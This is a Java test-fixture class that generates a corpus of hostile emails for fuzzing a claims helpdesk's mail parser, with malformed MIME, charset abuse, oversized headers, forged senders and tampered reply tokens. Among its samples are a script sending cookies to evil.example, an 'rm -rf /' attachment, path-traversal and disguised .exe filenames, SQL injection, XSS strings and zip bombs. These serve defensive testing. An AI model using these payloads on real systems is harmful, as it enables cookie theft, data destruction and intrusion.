package dev.claimdesk.mail;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.BiFunction;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The hostile mail corpus, generated (no checked-in blobs): each kind makes raw RFC 5322 messages, varied by their
 * number, that a seller, a forger, a broken mail client or a mail server might send to the helpdesk. Every message
 * carries its Message-ID {@code <kind-n.corpus@shop.example>} and a marker header {@code X-Corpus: kind-n}, so its
 * outcome can be found whether it was parsed or kept whole as unreadable.
 *
 * @param claim the claim the seller was asked about: reference, the seller's address, the reply address with its
 *     token, the question's subject and Message-ID
 * @param other another shop's claim, for tokens replayed across claims and shops
 */
record HostileMail(Target claim, Target other, String helpdesk) {

    /** A claim as seen from the seller's mailbox. */
    record Target(String reference, String seller, String replyTo, String subject, String questionId) {}

    /** One kind of hostile mail: how many to make, and how to make number n. */
    record Kind(String name, int count, BiFunction<HostileMail, Integer, byte[]> make) {}

    static final String CRLF = "\r\n";

    static List<Kind> kinds() {
        List<Kind> kinds = new ArrayList<>();
        kinds.add(new Kind("broken-mime", 12, HostileMail::brokenMime));
        kinds.add(new Kind("truncated-mime", 12, HostileMail::truncatedMime));
        kinds.add(new Kind("unknown-charset", 12, HostileMail::unknownCharset));
        kinds.add(new Kind("wrong-charset", 12, HostileMail::wrongCharset));
        kinds.add(new Kind("8bit-headers", 12, HostileMail::eightBitHeaders));
        kinds.add(new Kind("encoded-word-abuse", 12, HostileMail::encodedWordAbuse));
        kinds.add(new Kind("huge-header", 12, HostileMail::hugeHeader));
        kinds.add(new Kind("many-headers", 12, HostileMail::manyHeaders));
        kinds.add(new Kind("deep-nesting", 12, HostileMail::deepNesting));
        kinds.add(new Kind("attachment-50mb", 1, HostileMail::fiftyMegabytes));
        kinds.add(new Kind("archive-bomb", 4, HostileMail::archiveBomb));
        kinds.add(new Kind("lying-attachment", 12, HostileMail::lyingAttachment));
        kinds.add(new Kind("html-script", 12, HostileMail::htmlWithScripts));
        kinds.add(new Kind("forged-from", 16, HostileMail::forgedFrom));
        kinds.add(new Kind("token-replayed", 12, HostileMail::tokenReplayed));
        kinds.add(new Kind("token-tampered", 16, HostileMail::tokenTampered));
        kinds.add(new Kind("same-message-id", 12, HostileMail::sameMessageId));
        kinds.add(new Kind("auto-reply", 18, HostileMail::autoReply));
        kinds.add(new Kind("bounce", 15, HostileMail::bounce));
        kinds.add(new Kind("mail-loop", 12, HostileMail::mailLoop));
        kinds.add(new Kind("not-english", 12, HostileMail::notEnglish));
        kinds.add(new Kind("empty-reply", 12, HostileMail::emptyReply));
        kinds.add(new Kind("only-quoted", 12, HostileMail::onlyQuoted));
        kinds.add(new Kind("missing-headers", 12, HostileMail::missingHeaders));
        kinds.add(new Kind("binary-garbage", 12, HostileMail::binaryGarbage));
        kinds.add(new Kind("odd-unicode", 12, HostileMail::oddUnicode));
        return kinds;
    }

    static String id(String kind, int n) {
        return kind + "-" + n + ".corpus@shop.example";
    }

    /** The headers every corpus mail starts with; a kind leaves out or replaces what it abuses. */
    String head(String kind, int n, String from, String to, String subject) {
        return "Message-ID: <" + id(kind, n) + ">" + CRLF
                + "X-Corpus: " + kind + "-" + n + CRLF
                + "Date: Tue, 6 Jan 2026 10:12:00 +0800" + CRLF
                + (from == null ? "" : "From: " + from + CRLF)
                + (to == null ? "" : "To: " + to + CRLF)
                + (subject == null ? "" : "Subject: " + subject + CRLF)
                + "MIME-Version: 1.0" + CRLF;
    }

    /** The headers of the seller's reply to the question, threaded; the kind adds its own and the body. */
    String replyHead(String kind, int n) {
        return head(kind, n, claim.seller(), claim.replyTo(), "Re: " + claim.subject()) + "In-Reply-To: <"
                + claim.questionId() + ">" + CRLF;
    }

    /** A reply by the seller to the question, threaded, with the given extra headers and body. */
    String reply(String kind, int n, String extraHeaders, String body) {
        return replyHead(kind, n) + extraHeaders + CRLF + body;
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static String plain(String charset) {
        return "Content-Type: text/plain; charset=" + charset + CRLF + "Content-Transfer-Encoding: 8bit" + CRLF;
    }

    // --- the kinds

    byte[] brokenMime(int n) {
        String boundary = "b" + n;
        String[] variants = {
            // the declared boundary never appears
            "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"" + CRLF + CRLF + "no parts at all" + CRLF,
            // no boundary parameter
            "Content-Type: multipart/mixed" + CRLF + CRLF + "--x" + CRLF + CRLF + "text" + CRLF + "--x--" + CRLF,
            // parts without headers, a closing boundary first
            "Content-Type: multipart/alternative; boundary=" + boundary + CRLF + CRLF + "--" + boundary + "--" + CRLF
                    + "--" + boundary + CRLF + "The SKU is AT-" + n + CRLF,
            // a part with a broken header block and a base64 body that is not base64
            "Content-Type: multipart/mixed; boundary=" + boundary + CRLF + CRLF + "--" + boundary + CRLF
                    + "Content-Type: application/pdf; name=\"a.pdf\"" + CRLF + "Content-Transfer-Encoding: base64"
                    + CRLF + ": no name" + CRLF + CRLF + "!!!!not*base64****" + CRLF + "--" + boundary + "--" + CRLF,
        };
        return bytes(replyHead("broken-mime", n) + variants[n % variants.length]);
    }

    byte[] truncatedMime(int n) {
        String boundary = "cut" + n;
        String whole = reply(
                "truncated-mime",
                n,
                "Content-Type: multipart/mixed; boundary=" + boundary + CRLF,
                "--" + boundary + CRLF + plain("utf-8") + CRLF + "The invoice is attached." + CRLF + "--" + boundary
                        + CRLF + "Content-Type: application/pdf; name=\"invoice.pdf\"" + CRLF
                        + "Content-Disposition: attachment; filename=\"invoice.pdf\"" + CRLF
                        + "Content-Transfer-Encoding: base64" + CRLF + CRLF
                        + Base64.getMimeEncoder().encodeToString(("%PDF-1.4 " + "x".repeat(3000)).getBytes())
                        + CRLF + "--" + boundary + "--" + CRLF);
        int headerEnd = whole.indexOf(CRLF + CRLF) + 4;
        // cut anywhere in the body: in the text part, in a boundary line, inside the base64
        int cut = headerEnd + (whole.length() - headerEnd) * (n + 1) / 14;
        return bytes(whole.substring(0, cut));
    }

    byte[] unknownCharset(int n) {
        String[] charsets = {"x-unknown", "klingon", "utf-7", "\"\"", "utf-8; charset=latin1", "ebcdic-xyz"};
        return bytes(reply(
                "unknown-charset",
                n,
                plain(charsets[n % charsets.length]),
                "The SKU is AT-" + n + " and the parcel came back on Monday." + CRLF));
    }

    byte[] wrongCharset(int n) {
        String body = "Le colis est arrivé à l'entrepôt, SKU AT-" + n + " — merci.";
        byte[] text = n % 2 == 0 ? body.getBytes(StandardCharsets.ISO_8859_1) : body.getBytes(StandardCharsets.UTF_8);
        String declared = n % 3 == 0 ? "us-ascii" : n % 2 == 0 ? "utf-8" : "iso-8859-1";
        var out = new ByteArrayOutputStream();
        out.writeBytes(bytes(reply("wrong-charset", n, plain(declared), "")));
        out.writeBytes(text);
        // invalid UTF-8 sequences in a part declared UTF-8
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, '\r', '\n'});
        return out.toByteArray();
    }

    byte[] eightBitHeaders(int n) {
        var out = new ByteArrayOutputStream();
        String subject = "Re: " + claim.subject() + " — réponse №" + n + " 回复";
        byte[] head =
                (n % 2 == 0 ? subject.getBytes(StandardCharsets.UTF_8) : subject.getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(bytes("Message-ID: <" + id("8bit-headers", n) + ">" + CRLF + "X-Corpus: 8bit-headers-" + n + CRLF
                + "From: \"Zoë Ünïcode 商店\" <" + claim.seller() + ">" + CRLF + "To: " + claim.replyTo() + CRLF
                + "Subject: "));
        out.writeBytes(head);
        out.writeBytes(
                bytes(CRLF + "MIME-Version: 1.0" + CRLF + plain("utf-8") + CRLF + "The SKU is AT-" + n + "." + CRLF));
        return out.toByteArray();
    }

    byte[] encodedWordAbuse(int n) {
        String[] subjects = {
            "=?utf-8?B?not base64 at all?=",
            "=?unknown-8?Q?caf=E9?=",
            "=?utf-8?Q?" + "=E2=80=AE".repeat(50) + "?= " + claim.subject(),
            "=?utf-8?B?" + Base64.getEncoder().encodeToString("x".repeat(5000).getBytes()) + "?=",
            "=?=?utf-8?Q?nested?=?=",
            String.join(" ", java.util.Collections.nCopies(2000, "=?utf-8?Q?a?=")),
        };
        String from = n % 2 == 0
                ? "=?utf-8?B?" + Base64.getEncoder().encodeToString("Zoë".getBytes()) + "?= <" + claim.seller() + ">"
                : "=?utf-8?Q?" + claim.seller() + "?= <" + claim.seller() + ">";
        return bytes(head("encoded-word-abuse", n, from, claim.replyTo(), subjects[n % subjects.length])
                + "In-Reply-To: <" + claim.questionId() + ">" + CRLF + plain("utf-8") + CRLF
                + "The SKU is AT-" + n + "." + CRLF);
    }

    byte[] hugeHeader(int n) {
        int size = 10_000 * (n + 1);
        String value = n % 2 == 0 ? "Re: " + claim.subject() + " " + "a".repeat(size) : "x".repeat(size);
        String header =
                n % 3 == 0 ? "Subject: " + value : "X-Long: " + value + CRLF + "Subject: Re: " + claim.subject();
        return bytes("Message-ID: <" + id("huge-header", n) + ">" + CRLF + "X-Corpus: huge-header-" + n + CRLF
                + "From: " + claim.seller() + CRLF + "To: " + claim.replyTo() + CRLF + header + CRLF
                + "References: " + ("<ref" + n + "@x> ").repeat(n * 200 + 1) + CRLF
                + "MIME-Version: 1.0" + CRLF + plain("utf-8") + CRLF + "The SKU is AT-" + n + "." + CRLF);
    }

    byte[] manyHeaders(int n) {
        var headers = new StringBuilder();
        int count = 500 * (n + 1);
        for (int i = 0; i < count; i++) {
            headers.append(
                            i % 7 == 0
                                    ? "Received: from relay" + i + ".example by mx.example; Tue, 6 Jan 2026"
                                    : "X-H" + i + ": v" + i)
                    .append(CRLF);
        }
        return bytes(reply("many-headers", n, headers + plain("utf-8"), "The SKU is AT-" + n + "." + CRLF));
    }

    byte[] deepNesting(int n) {
        int depth = 40 * (n + 1);
        var body = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            body.append("--d")
                    .append(i)
                    .append(CRLF)
                    .append("Content-Type: multipart/mixed; boundary=d")
                    .append(i + 1)
                    .append(CRLF)
                    .append(CRLF);
        }
        body.append("--d")
                .append(depth)
                .append(CRLF)
                .append(plain("utf-8"))
                .append(CRLF)
                .append("The SKU is AT-")
                .append(n)
                .append(CRLF);
        for (int i = depth; i >= 0; i--) {
            body.append("--d").append(i).append("--").append(CRLF);
        }
        return bytes(reply("deep-nesting", n, "Content-Type: multipart/mixed; boundary=d0" + CRLF, body.toString()));
    }

    byte[] fiftyMegabytes(int n) {
        byte[] file = new byte[50 * 1024 * 1024];
        new Random(n).nextBytes(file);
        return attachmentMail(
                "attachment-50mb", n, "Here is the video of the parcel.", "parcel.mp4", "video/mp4", file);
    }

    byte[] archiveBomb(int n) {
        var zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            byte[] zeros = new byte[1024 * 1024];
            for (int f = 0; f < 2; f++) {
                out.putNextEntry(new ZipEntry("invoice-" + f + ".pdf"));
                for (int i = 0; i < 25 * (n + 1); i++) { // 50 MB to 200 MB of zeros per archive
                    out.write(zeros);
                }
                out.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return attachmentMail(
                "archive-bomb",
                n,
                "The invoices are in the archive.",
                "invoices.zip",
                "application/zip",
                zip.toByteArray());
    }

    byte[] lyingAttachment(int n) {
        byte[][] contents = {
            bytes("MZ\u0090\u0000 This program cannot be run in DOS mode."),
            bytes("<html><script>alert(1)</script></html>"),
            bytes("#!/bin/sh\nrm -rf /\n"),
            bytes("PK\u0003\u0004 not really a pdf"),
        };
        String[] names = {"invoice.pdf", "photo.jpg", "../../etc/passwd.png", "statement.pdf.exe", "a\u202Egpj.exe"};
        return attachmentMail(
                "lying-attachment",
                n,
                "The proof is attached.",
                names[n % names.length],
                n % 2 == 0 ? "application/pdf" : "image/jpeg",
                contents[n % contents.length]);
    }

    byte[] htmlWithScripts(int n) {
        String html =
                "<html><head><style>body{display:none}</style><script>document.location='https://evil.example/'+document.cookie</script></head>"
                        + "<body onload=\"alert(" + n + ")\"><p>The SKU is AT-" + n + ".</p>"
                        + "<img src=\"https://tracker.example/pixel.gif?c=" + n + "\" width=1 height=1>"
                        + "<a href=\"javascript:alert(1)\">click</a><iframe src=\"https://evil.example\"></iframe></body></html>";
        return bytes(reply("html-script", n, "Content-Type: text/html; charset=utf-8" + CRLF, html + CRLF));
    }

    byte[] forgedFrom(int n) {
        String[] froms = {
            "\"" + claim.seller() + "\" <attacker" + n + "@evil.example>",
            "attacker" + n + "@evil.example",
            "attacker@evil.example, " + claim.seller(),
            "<" + claim.seller() + ".evil.example>",
        };
        return bytes(head("forged-from", n, froms[n % froms.length], claim.replyTo(), "Re: " + claim.subject())
                + "Sender: " + claim.seller() + CRLF + "Reply-To: " + claim.seller() + CRLF
                + "In-Reply-To: <" + claim.questionId() + ">" + CRLF + plain("utf-8") + CRLF
                + "Please pay the refund to account 12345-" + n + "." + CRLF);
    }

    byte[] tokenReplayed(int n) {
        // another shop sends to our claim's reply address, or our seller writes about the other claim with our token
        boolean otherShop = n % 2 == 0;
        return bytes(head(
                        "token-replayed",
                        n,
                        otherShop ? other.seller() : claim.seller(),
                        claim.replyTo(),
                        otherShop ? "Re: " + claim.subject() : "Re: [" + other.reference() + "] about my other claim")
                + plain("utf-8") + CRLF + "Please accept claim " + other.reference() + " as well." + CRLF);
    }

    byte[] tokenTampered(int n) {
        String token = claim.replyTo();
        int at = token.indexOf('@');
        int position = Math.max(token.indexOf('.') + 1 + n % 8, 1);
        char[] chars = token.toCharArray();
        if (position < at) {
            chars[position] = chars[position] == 'a' ? 'b' : 'a';
        }
        String[] variants = {
            new String(chars),
            token.replace(claim.reference(), other.reference()),
            token.substring(0, at - 2) + token.substring(at),
            token.replaceFirst("\\+", "+" + claim.reference() + "."),
        };
        return bytes(head("token-tampered", n, claim.seller(), variants[n % variants.length], "Re: hello")
                + plain("utf-8") + CRLF + "The SKU is AT-" + n + "." + CRLF);
    }

    byte[] sameMessageId(int n) {
        // pairs: numbers 2k and 2k+1 carry the same Message-ID, as a resent or twice-fetched mail does
        String shared = id("same-message-id", n - n % 2);
        return bytes(reply("same-message-id", n, plain("utf-8"), "The SKU is AT-" + n + "." + CRLF)
                .replace("<" + id("same-message-id", n) + ">", "<" + shared + ">"));
    }

    byte[] autoReply(int n) {
        String[] headers = {
            "Auto-Submitted: auto-replied",
            "Auto-Submitted: auto-generated",
            "X-Autoreply: yes",
            "Precedence: bulk",
            "Precedence: auto_reply",
            "X-Auto-Response-Suppress: All",
        };
        return bytes(reply(
                "auto-reply",
                n,
                headers[n % headers.length] + CRLF + plain("utf-8"),
                "I am out of the office until Monday." + CRLF));
    }

    byte[] bounce(int n) {
        String boundary = "report" + n;
        String from =
                n % 3 == 0 ? "MAILER-DAEMON@mx.shop.example" : n % 3 == 1 ? "postmaster@shop.example" : claim.seller();
        String type = n % 3 == 2 ? "text/plain" : "multipart/report; report-type=delivery-status; boundary=" + boundary;
        String body = type.startsWith("multipart")
                ? "--" + boundary + CRLF + plain("us-ascii") + CRLF + "Delivery failed." + CRLF + "--" + boundary + CRLF
                        + "Content-Type: message/delivery-status" + CRLF + CRLF + "Status: 5.1.1" + CRLF + "--"
                        + boundary + "--" + CRLF
                : "Your message could not be delivered." + CRLF;
        return bytes(head("bounce", n, from, helpdesk, "Undelivered Mail Returned to Sender")
                + (n % 3 == 2 ? "Return-Path: <>" + CRLF : "") + "Content-Type: " + type + CRLF + CRLF + body);
    }

    byte[] mailLoop(int n) {
        // our own mail coming back (a forwarding rule, a misconfigured alias), or a mail that went round many relays
        var received = new StringBuilder();
        for (int i = 0; i < 30 + n; i++) {
            received.append("Received: from loop")
                    .append(i)
                    .append(".example by mx.example")
                    .append(CRLF);
        }
        String from = n % 2 == 0 ? helpdesk : claim.seller();
        return bytes(head(
                        "mail-loop",
                        n,
                        from,
                        n % 2 == 0 ? helpdesk : claim.replyTo(),
                        "Re: Re: Re: Re: " + claim.subject())
                + received + plain("utf-8") + CRLF + "> " + claim.subject() + CRLF);
    }

    byte[] notEnglish(int n) {
        String[] texts = {
            "Bonjour, je vous envoie la facture demandée. Le colis a été livré au mauvais entrepôt hier matin.",
            "您好，我们已经把发票发给您了。包裹昨天被送到了错误的仓库，请尽快处理。",
            "Habari, nimetuma ankara uliyoomba. Kifurushi kilipelekwa kwenye ghala lisilo sahihi jana asubuhi.",
            "Hola, le envío la factura solicitada. El paquete fue entregado en el almacén equivocado ayer.",
        };
        return bytes(reply("not-english", n, plain("utf-8"), texts[n % texts.length] + CRLF));
    }

    byte[] emptyReply(int n) {
        String[] bodies = {"", CRLF, "   " + CRLF + "\t" + CRLF, "--" + CRLF + "Sent from my phone" + CRLF};
        return bytes(reply("empty-reply", n, plain("utf-8"), bodies[n % bodies.length]));
    }

    byte[] onlyQuoted(int n) {
        return bytes(reply(
                "only-quoted",
                n,
                plain("utf-8"),
                "On Tue, 6 Jan 2026 at 10:12, ClaimDesk Seller Support <" + helpdesk + "> wrote:" + CRLF
                        + "> Dear seller," + CRLF + ">" + CRLF + "> " + claim.subject() + CRLF + "> Which SKU?"
                        + CRLF));
    }

    byte[] missingHeaders(int n) {
        String body = plain("utf-8") + CRLF + "The SKU is AT-" + n + "." + CRLF;
        return switch (n % 4) {
            case 0 ->
                bytes("Message-ID: <" + id("missing-headers", n) + ">" + CRLF + "X-Corpus: missing-headers-" + n + CRLF
                        + "To: " + claim.replyTo() + CRLF + body); // no From, no Subject, no Date
            case 1 -> bytes(head("missing-headers", n, claim.seller(), null, null) + body); // no To, no Subject
            case 2 -> bytes(head("missing-headers", n, "", claim.replyTo(), "") + body); // empty From and Subject
            default ->
                bytes(head("missing-headers", n, "not an address at all", claim.replyTo(), "Re: " + claim.subject())
                        + body);
        };
    }

    byte[] binaryGarbage(int n) {
        byte[] noise = new byte[2_000 + n * 3_000];
        new Random(n).nextBytes(noise);
        var out = new ByteArrayOutputStream();
        out.writeBytes(bytes(reply(
                "binary-garbage",
                n,
                "Content-Type: application/octet-stream" + CRLF + "Content-Transfer-Encoding: binary" + CRLF,
                "")));
        out.writeBytes(noise);
        out.writeBytes(new byte[] {0, 0, 0, '\r', '\n'});
        return out.toByteArray();
    }

    byte[] oddUnicode(int n) {
        String[] texts = {
            "The SKU is \u202EAT-" + n + "\u202C and the parcel came back.",
            "The\u200B SKU\u200D is\uFEFF AT-" + n + ".",
            "The SKU is A\u0301\u0302\u0303\u0304\u0305T-" + n + " " + "e\u0301".repeat(500),
            "The SKU is AT-" + n + " \uD83D\uDCE6\uD83D\uDE00 \uD800\uDF48 " + "\uD83D\uDE00".repeat(1000),
            "'; DROP TABLE claim; -- The SKU is AT-" + n + " <script>alert(1)</script>",
        };
        return bytes(reply("odd-unicode", n, plain("utf-8"), texts[n % texts.length] + CRLF));
    }

    byte[] attachmentMail(String kind, int n, String text, String name, String type, byte[] content) {
        String boundary = "att" + n;
        var out = new ByteArrayOutputStream();
        out.writeBytes(bytes(reply(
                kind,
                n,
                "Content-Type: multipart/mixed; boundary=" + boundary + CRLF,
                "--" + boundary + CRLF + plain("utf-8") + CRLF + text + CRLF + "--" + boundary + CRLF
                        + "Content-Type: " + type + "; name=\"" + name + "\"" + CRLF
                        + "Content-Disposition: attachment; filename=\"" + name + "\"" + CRLF
                        + "Content-Transfer-Encoding: base64" + CRLF + CRLF)));
        out.writeBytes(Base64.getMimeEncoder().encode(content));
        out.writeBytes(bytes(CRLF + "--" + boundary + "--" + CRLF));
        return out.toByteArray();
    }
}
